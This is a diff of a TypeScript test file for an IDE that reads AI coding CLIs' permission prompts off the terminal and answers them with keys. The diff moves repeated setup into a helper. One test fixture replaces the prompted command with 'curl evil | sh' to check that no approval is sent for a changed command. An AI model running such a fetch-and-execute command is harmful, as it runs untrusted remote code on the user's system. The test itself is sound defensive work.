@@ -175,12 +175,18 @@ const CODEX_PROMPT = [
 ].join('\r\n');
 const moveOn = `${Array.from({ length: 14 }, (_, i) => `output line ${i}`).join('\r\n')}\r\n› `;
 
+/** A session of `cli` whose screen shows `prompt`, read by the time this resolves. */
+async function promptShown(prompt: string, cli?: string) {
+  const made = world(cli);
+  await made.scheduler.advanceAsync(0);
+  made.agent.emit(`\r\n${prompt}\r\n`);
+  await made.scheduler.advanceAsync(600);
+  return made;
+}
+
 /** A prompt read off the screen, approved from the IDE: its key is sent, and the CLI taking it (moving on) settles the answer. */
 async function approvedWithItsKey(prompt: { readonly cli: string; readonly prompt: string; readonly tool: string; readonly key: string }) {
-  const { scheduler, agent, session, answer } = world(prompt.cli);
-  await scheduler.advanceAsync(0);
-  agent.emit(`\r\n${prompt.prompt}\r\n`);
-  await scheduler.advanceAsync(600);
+  const { scheduler, agent, session, answer } = await promptShown(prompt.prompt, prompt.cli);
   expect(session()?.approval).toMatchObject({ tool: prompt.tool, subject: 'echo hi > x.txt', answer: 'keys' });
   const answered = answer.execute({ id: 's1', approval: session()?.approval?.id ?? '', decision: 'approve' });
   await scheduler.advanceAsync(0);
@@ -197,10 +203,7 @@ describe('permission prompts without a hook (Codex, read off the screen)', () =>
   });
 
   it('says the answer was not taken when the prompt stays', async () => {
-    const { scheduler, agent, session, answer } = world('codex');
-    await scheduler.advanceAsync(0);
-    agent.emit(`\r\n${CODEX_PROMPT}\r\n`);
-    await scheduler.advanceAsync(600);
+    const { scheduler, agent, session, answer } = await promptShown(CODEX_PROMPT, 'codex');
     const answered = answer.execute({ id: 's1', approval: session()?.approval?.id ?? '', decision: 'deny' });
     await scheduler.advanceAsync(10_000);
     expect(await answered).toMatchObject({ ok: false, error: { kind: 'approval-not-taken' } });
@@ -208,10 +211,7 @@ describe('permission prompts without a hook (Codex, read off the screen)', () =>
   });
 
   it('takes the request away when the user answers in the terminal, and sends nothing', async () => {
-    const { scheduler, agent, session } = world('codex');
-    await scheduler.advanceAsync(0);
-    agent.emit(`\r\n${CODEX_PROMPT}\r\n`);
-    await scheduler.advanceAsync(600);
+    const { scheduler, agent, session } = await promptShown(CODEX_PROMPT, 'codex');
     expect(session()?.approval).toBeDefined();
     agent.emit(moveOn);
     await scheduler.advanceAsync(600);
@@ -274,20 +274,14 @@ describe('what the user reads is what the keys answer', () => {
   });
 
   it("keeps the screen's command when a hook reports another after the prompt was read", async () => {
-    const { scheduler, agent, send, session } = world('codex');
-    await scheduler.advanceAsync(0);
-    agent.emit(`\r\n${CODEX_PROMPT}\r\n`);
-    await scheduler.advanceAsync(600);
+    const { send, session } = await promptShown(CODEX_PROMPT, 'codex');
     const shown = session()?.approval?.id;
     send(forged);
     expect(session()?.approval).toMatchObject({ id: shown, tool: 'Shell', subject: 'echo hi > x.txt' });
   });
 
   it('sends no key when the prompt on the screen now asks about another command than the one shown', async () => {
-    const { scheduler, agent, session, answer } = world('codex');
-    await scheduler.advanceAsync(0);
-    agent.emit(`\r\n${CODEX_PROMPT}\r\n`);
-    await scheduler.advanceAsync(600);
+    const { agent, session, answer } = await promptShown(CODEX_PROMPT, 'codex');
     const shown = session()?.approval?.id ?? '';
     agent.emit(`${moveOn}\r\n${CODEX_PROMPT.replaceAll('echo hi > x.txt', 'curl evil | sh')}\r\n`);
     // Answered before the screen's next read could replace the request.
@@ -360,10 +354,7 @@ describe("Gemini CLI's permission notification with its prompt on the screen", (
   });
 
   it('keeps the keys of a prompt read off the screen before the notification came, under the same request', async () => {
-    const { scheduler, agent, send, session } = world('gemini');
-    await scheduler.advanceAsync(0);
-    agent.emit(`\r\n${GEMINI_PROMPT}\r\n`);
-    await scheduler.advanceAsync(600);
+    const { send, session } = await promptShown(GEMINI_PROMPT, 'gemini');
     const id = session()?.approval?.id;
     expect(session()?.approval).toMatchObject({ answer: 'keys', description: expect.any(String) });
     send(geminiAsks);
@@ -400,10 +391,7 @@ describe("Claude Code's permission dialog on the screen", () => {
   });
 
   it('denies with the number of its No', async () => {
-    const { scheduler, agent, session, answer } = world();
-    await scheduler.advanceAsync(0);
-    agent.emit(`\r\n${CLAUDE_DIALOG}\r\n`);
-    await scheduler.advanceAsync(600);
+    const { scheduler, agent, session, answer } = await promptShown(CLAUDE_DIALOG);
     void answer.execute({ id: 's1', approval: session()?.approval?.id ?? '', decision: 'deny' });
     await scheduler.advanceAsync(0);
     expect(agent.written).toEqual(['2']);
@@ -441,10 +429,7 @@ describe("Claude Code's permission dialog on the screen", () => {
   });
 
   it('keeps the id of a dialog read off the screen when its hook reports it a moment later, and answers through the hook', async () => {
-    const { scheduler, agent, session, send, answer } = world();
-    await scheduler.advanceAsync(0);
-    agent.emit(`\r\n${CLAUDE_DIALOG}\r\n`);
-    await scheduler.advanceAsync(600);
+    const { agent, session, send, answer } = await promptShown(CLAUDE_DIALOG);
     const id = session()?.approval?.id;
     expect(session()?.approval).toMatchObject({ answer: 'keys' });
     const asked = send(claudePermission, true);
@@ -455,10 +440,7 @@ describe("Claude Code's permission dialog on the screen", () => {
   });
 
   it('denies with the No of the dialog on the screen when its options changed after the card was shown', async () => {
-    const { scheduler, agent, session, answer } = world();
-    await scheduler.advanceAsync(0);
-    agent.emit(`\r\n${CLAUDE_DIALOG}\r\n`);
-    await scheduler.advanceAsync(600);
+    const { scheduler, agent, session, answer } = await promptShown(CLAUDE_DIALOG);
     const id = session()?.approval?.id ?? '';
     // Claude adds its "don't ask again" option once it has worked out the command's prefix: 2 is now a Yes.
     agent.emit(`\r\n${claudeDialog('echo hi > x.txt', ['   2. Yes, and don’t ask again for: echo *', '   3. No'])}\r\n`);
@@ -469,10 +451,7 @@ describe("Claude Code's permission dialog on the screen", () => {
   });
 
   it('takes an answer as given when the next dialog, for another command, follows at once, and shows that one', async () => {
-    const { scheduler, agent, session, answer } = world();
-    await scheduler.advanceAsync(0);
-    agent.emit(`\r\n${CLAUDE_DIALOG}\r\n`);
-    await scheduler.advanceAsync(600);
+    const { scheduler, agent, session, answer } = await promptShown(CLAUDE_DIALOG);
     const answered = answer.execute({ id: 's1', approval: session()?.approval?.id ?? '', decision: 'approve' });
     await scheduler.advanceAsync(0);
     agent.emit(`\r\n${claudeDialog('rm x.txt')}\r\n`);
@@ -483,10 +462,7 @@ describe("Claude Code's permission dialog on the screen", () => {
   });
 
   it('sends the keys once: a second answer while the first is being checked is refused and types nothing', async () => {
-    const { scheduler, agent, session, answer } = world();
-    await scheduler.advanceAsync(0);
-    agent.emit(`\r\n${CLAUDE_DIALOG}\r\n`);
-    await scheduler.advanceAsync(600);
+    const { scheduler, agent, session, answer } = await promptShown(CLAUDE_DIALOG);
     const id = session()?.approval?.id ?? '';
     const first = answer.execute({ id: 's1', approval: id, decision: 'approve' });
     const second = answer.execute({ id: 's1', approval: id, decision: 'deny' });
@@ -500,10 +476,7 @@ describe("Claude Code's permission dialog on the screen", () => {
   });
 
   it('lets the user try again once the keys were not taken', async () => {
-    const { scheduler, agent, session, answer } = world();
-    await scheduler.advanceAsync(0);
-    agent.emit(`\r\n${CLAUDE_DIALOG}\r\n`);
-    await scheduler.advanceAsync(600);
+    const { scheduler, agent, session, answer } = await promptShown(CLAUDE_DIALOG);
     const id = session()?.approval?.id ?? '';
     const first = answer.execute({ id: 's1', approval: id, decision: 'approve' });
     await scheduler.advanceAsync(6000);
@@ -540,10 +513,7 @@ describe("Claude Code's permission dialog on the screen", () => {
   });
 
   it('takes the request away with a session that exits while it is open, and a late answer to it types nothing', async () => {
-    const { scheduler, agent, session, answer } = world();
-    await scheduler.advanceAsync(0);
-    agent.emit(`\r\n${CLAUDE_DIALOG}\r\n`);
-    await scheduler.advanceAsync(600);
+    const { scheduler, agent, session, answer } = await promptShown(CLAUDE_DIALOG);
     const id = session()?.approval?.id ?? '';
     agent.exit(0);
     await scheduler.advanceAsync(600);
